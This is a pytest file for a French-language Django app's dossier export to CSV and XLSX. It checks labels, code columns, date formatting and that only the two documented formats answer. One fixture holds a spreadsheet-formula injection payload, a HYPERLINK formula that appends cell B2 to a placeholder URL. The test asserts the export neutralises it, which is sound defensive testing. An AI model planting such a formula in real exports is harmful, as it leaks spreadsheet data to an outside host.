"""The cockpit's export of dossiers: labels, codes after them, dates as dates, a CSV for French Excel; a typed
name is text, never a formula; only CSV and XLSX answer."""

import csv
import io
from datetime import UTC, datetime

import pytest
from openpyxl import load_workbook

from pilotactions.accounts.enums import RoleKind as R
from pilotactions.campaigns.enums import DossierState
from pilotactions.campaigns.exports import COLUMNS
from pilotactions.territories.models import Authority
from tests.factories import login, make_action, make_campaign, make_contract, make_role

pytestmark = pytest.mark.django_db

FORMULA = '=HYPERLINK("http://exemple.invalid/?"&B2,"Voir")'


@pytest.fixture
def campaign():
    Authority.objects.filter(code="59").update(name=FORMULA)
    make_action(make_contract("59"), lines=[(2024, "authority", "10")])
    return make_campaign()


def _people_csv(content: bytes) -> list[dict]:
    assert content.startswith(b"\xef\xbb\xbf")  # UTF-8 with a BOM, for French Excel
    return list(csv.DictReader(io.StringIO(content.decode("utf-8").removeprefix("\ufeff")), delimiter=";"))


def _xlsx(client, campaign):
    response = client.get(f"/campagnes/{campaign.pk}/dossiers.xlsx")
    return load_workbook(io.BytesIO(b"".join(response.streaming_content)))["Dossiers"]


def test_the_dossiers_export_never_holds_a_formula(client, campaign):
    login(client, make_role(R.NATIONAL_ADMIN))
    rows = _people_csv(client.get(f"/campagnes/{campaign.pk}/dossiers.csv").getvalue())
    assert [row["Collectivité"] for row in rows] == ["'" + FORMULA]
    cell = _xlsx(client, campaign).cell(row=2, column=3)
    assert (cell.value, cell.data_type) == (FORMULA, "s")


def test_the_dossiers_export_has_labels_then_codes_and_dates_as_dates(client, campaign):
    Authority.objects.filter(code="59").update(name="Département du Nord")
    submitted = datetime(2024, 10, 3, 14, 5, tzinfo=UTC)  # 16:05 in Paris
    campaign.dossiers.update(state=DossierState.SUBMITTED, submitted_at=submitted)
    login(client, make_role(R.NATIONAL_ADMIN))
    expected = {
        "Contrat": "CLS-D-2024-059",
        "Type de contrat": "Contrat local des solidarités départemental",
        "Collectivité": "Département du Nord",
        "Région": "Hauts-de-France",
        "Département": "Nord",
        "État": "Soumis",
        "Validé le": None,
        "En retard": "non",
        "Type de contrat (code)": "CLS-D",
        "Collectivité (code)": "59",
        "Région (code)": "32",
        "Département (code)": "59",
        "État (code)": "submitted",
    }
    sheet = _xlsx(client, campaign)
    header = [cell.value for cell in sheet[1]]
    assert header == [column.label for column in COLUMNS] and all(cell.font.b for cell in sheet[1])
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref == "A1:O2"
    cells = dict(zip(header, sheet[2], strict=True))
    assert {label: cells[label].value for label in expected} == expected
    assert cells["Soumis le"].is_date and cells["Soumis le"].value == datetime(2024, 10, 3, 16, 5)
    assert cells["Soumis le"].number_format == "dd/mm/yyyy hh:mm" and cells["Clôture"].is_date

    (row,) = _people_csv(client.get(f"/campagnes/{campaign.pk}/dossiers.csv").getvalue())
    assert row == {
        **{label: value or "" for label, value in expected.items()},
        "Soumis le": "03/10/2024 16:05",
        "Clôture": row["Clôture"],
    }
    assert len(row["Clôture"]) == len("31/12/2024 23:59") and row["Clôture"][2] == "/"


@pytest.mark.parametrize("extension", ["html", "ods", "CSV"])
def test_only_the_documented_formats_answer(client, campaign, extension):
    login(client, make_role(R.NATIONAL_ADMIN))
    assert client.get(f"/campagnes/{campaign.pk}/dossiers.{extension}").status_code == 404
